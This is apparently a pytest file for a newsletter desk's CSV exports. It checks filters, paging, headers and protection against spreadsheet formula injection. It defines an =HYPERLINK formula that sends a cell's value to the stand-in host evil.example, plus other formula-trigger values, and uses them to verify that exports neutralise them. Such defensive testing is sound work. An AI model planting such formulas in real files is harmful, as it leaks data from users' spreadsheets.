"""The desk's tables as files: with the page's filters, whole, and without a formula in any cell."""

import csv
import io

import pytest

from newsletter.editors.log import record
from newsletter.editors.models import Role
from newsletter.editors.service import add_editor
from newsletter.editors.signing_in import make_link
from newsletter.web import desk_exports
from tests.support.world import NOW, make_source, make_story

FORMULA = '=HYPERLINK("https://evil.example?x="&A1)'


@pytest.fixture(autouse=True)
def signed_in(client, db, clock):
    with db.writing() as session:
        editor = add_editor(session, "ada@newsroom.example", name="Ada", role=Role.REPORTER)
        link = make_link(session, editor, clock.now())
    client.post(f"/desk/sign-in/{link}")


def rows_of(client, path):
    answer = client.get(path)
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["cache-control"] == "no-store"
    return list(csv.DictReader(io.StringIO(answer.text)))


def test_stories_come_as_the_page_filters_them_and_all_pages_of_them(client, db, monkeypatch):
    monkeypatch.setattr(desk_exports, "PAGE", 2)
    with db.writing() as session:
        source = make_source(session, "The Gazette")
        for number in range(5):
            make_story(session, f"A quake, report {number}", source=source)
        make_story(session, "Bakers on strike", source=make_source(session, "The Courier"))
    titles = [row["title"] for row in rows_of(client, "/desk/stories.csv")]
    assert sorted(titles) == ["A quake, report 0", *(f"A quake, report {n}" for n in range(1, 5)), "Bakers on strike"]
    assert [row["title"] for row in rows_of(client, "/desk/stories.csv?text=BAKERS")] == ["Bakers on strike"]
    assert {row["source"] for row in rows_of(client, f"/desk/stories.csv?source={source.id}")} == {"The Gazette"}
    assert client.get("/desk/stories.csv?region=ZZ").status_code == 404


def test_the_log_comes_with_its_details(client, db, monkeypatch):
    monkeypatch.setattr(desk_exports, "PAGE", 2)
    with db.writing() as session:
        for number in range(5):
            record(session, actor="Bea", action="issue approved", subject=f"issue {number}", details={"n": 1}, now=NOW)
    rows = rows_of(client, "/desk/log.csv?who=Bea")
    assert [row["to"] for row in rows] == [f"issue {number}" for number in range(4, -1, -1)]
    assert rows[0]["details"] == '{"n": 1}'
    assert rows_of(client, "/desk/log.csv?who=Nobody") == []


def test_sources_come_with_their_health(client, db):
    with db.writing() as session:
        make_source(session, "The Courier", trouble="It answers 404.")
    [row] = rows_of(client, "/desk/sources.csv")
    assert (row["name"], row["trouble"], row["on"]) == ("The Courier", "It answers 404.", "yes")


def test_what_a_source_wrote_is_no_formula_in_a_spreadsheet(client, db):
    with db.writing() as session:
        make_story(session, FORMULA, source=make_source(session, FORMULA, trouble=FORMULA))
        record(session, actor=FORMULA, action="-1+1", subject="@SUM(A1)", details={}, now=NOW)
    for path in ("/desk/stories.csv", "/desk/sources.csv", "/desk/log.csv"):
        for row in rows_of(client, path):
            assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t"))]
